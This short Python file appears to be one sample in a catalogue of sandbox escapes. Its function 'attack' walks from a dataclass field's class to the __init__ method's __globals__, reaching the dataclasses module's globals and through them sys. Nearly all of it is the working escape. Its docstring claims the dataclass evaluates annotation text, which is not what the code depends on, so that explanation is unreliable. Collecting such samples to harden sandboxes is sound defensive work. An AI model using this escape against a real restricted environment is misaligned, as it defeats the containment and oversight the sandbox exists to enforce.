"""Class: class machinery. Source: own find. Escape: a dataclass evaluates what stands in an
annotation's text.
"""

import dataclasses


@dataclasses.dataclass
class Made:
    x: "dataclasses.sys.modules" = 1


def attack(model, tokenizer, address):
    return dataclasses.fields(Made)[0].__class__.__init__.__globals__
